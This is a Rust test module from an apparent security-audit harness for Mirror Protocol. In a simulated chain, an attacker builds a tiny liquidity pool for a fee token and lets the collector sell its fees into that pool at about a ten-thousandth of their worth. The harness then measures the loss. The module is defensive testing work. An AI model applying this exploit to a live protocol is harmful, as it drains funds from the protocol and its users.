//! Fees sold into the attacker's own market.

use mirror_protocol::collateral_oracle::{ExecuteMsg, SourceType};
use mirror_testing::World;
use serde_json::json;
use terraswap::asset::{Asset, AssetInfo};
use terraswap::pair::Cw20HookMsg;

use crate::attacks::attack::Attack;
use crate::attacks::findings::{Attempt, Findings};
use crate::attacks::fixtures::{self, UNIT};
use crate::attacks::transaction::Transaction;
use crate::attacks::trial::Trial;

pub(super) const ATTACK: Attack = Attack {
    name: "fees for an own market",
    story: "Fees in a collateral that had neither a feed in our oracle nor a market: who made its \
            market, of 100 coins against 1,000,000 tokens, had the collector sell 12,000 coins' \
            worth of them there for 0.99.",
    run,
};

/// A token is worth 1.2.
const PRICE: &str = "1.2";
/// What the collector has of it: 12,000 coins' worth.
const FEES: u128 = 9_999_900_000;
/// The attacker's market.
const TOKENS: u128 = 1_000_000 * UNIT;
const COINS: u128 = 100 * UNIT;
const BLOCKS: usize = 4;

/// What is known of the token.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Known {
    /// Collateral of a fixed price.
    Fixed,
    /// The same, revoked.
    Revoked,
}

fn run() -> anyhow::Result<Findings> {
    let ways: anyhow::Result<Vec<Attempt>> = [Known::Fixed, Known::Revoked]
        .map(|known| converts(known, COINS))
        .into_iter()
        .collect();
    // Coins for a thousand tokens, around what the spread lets through.
    let near: anyhow::Result<Vec<Attempt>> = (1_188..1_200)
        .map(|coins| converts(Known::Fixed, TOKENS / 1_000 * coins))
        .collect();
    Ok(Findings {
        attempts: vec![Attempt::best(
            ways?,
            "made the first market of a collateral of a fixed price, revoked or not, at a \
             ten-thousandth of its worth, had its fees converted in four blocks and took the \
             market down",
        )?],
        exposures: vec![Attempt::best(near?, "")?.exposes(
            "his market stands so close to the price that the sale stays within the spread of a \
             per cent that the collector takes",
        )],
    })
}

fn converts(known: Known, base: u128) -> anyhow::Result<Attempt> {
    let mut trial = prepared(known)?;
    let gem = trial.world.token("GEM");
    fixtures::market(&mut trial.world, "GEM", "attacker", base, TOKENS)?;
    let convert = json!({ "convert": { "asset_token": gem } });
    let collector = trial.world.at.collector.clone();
    for _ in 0..BLOCKS {
        trial.tries("T-76", Transaction::new().tells(&collector, &convert))?;
        trial.world.chain.pass(6);
    }
    takes_down(&mut trial)?;

    let got = trial.world.base_balance(&collector);
    let sold = FEES - trial.world.token_balance(&gem, &collector).u128();
    let worth = trial.worth(&Asset::token(&gem, sold))?;
    trial.loses(worth.saturating_sub(got));
    trial.ends(String::new())
}

/// All of the attacker's share.
fn takes_down(trial: &mut Trial) -> anyhow::Result<()> {
    let listed = trial.world.asset("GEM");
    let shares = trial.world.token_balance(&listed.lp_token, &trial.attacker);
    let hook = Cw20HookMsg::WithdrawLiquidity {
        min_assets: None,
        deadline: None,
    };
    let out = Transaction::new().hands(&listed.lp_token, shares.u128(), &listed.pair, &hook);
    trial.does(out)?;
    Ok(())
}

/// Somebody's burns have left fees.
fn prepared(known: Known) -> anyhow::Result<Trial> {
    let mut world = World::new();
    let holders = [("attacker", TOKENS), ("bob", FEES)];
    let token = fixtures::coin_of(&mut world, "GEM", &holders)?;
    let fixed = SourceType::FixedPrice {
        price: fixtures::price(PRICE)?,
    };
    fixtures::backs(&mut world, "GEM", fixed, TOKENS)?;
    if known == Known::Revoked {
        let revoke = ExecuteMsg::RevokeCollateralAsset {
            asset: AssetInfo::token(&token),
        };
        let oracle = world.at.collateral_oracle.clone();
        fixtures::governs(&mut world, &oracle, &revoke)?;
    }
    let collector = world.at.collector.clone();
    world.bob().gives(&token, FEES, &collector);
    Trial::new(world, &[("GEM", fixtures::price(PRICE)?)])
}
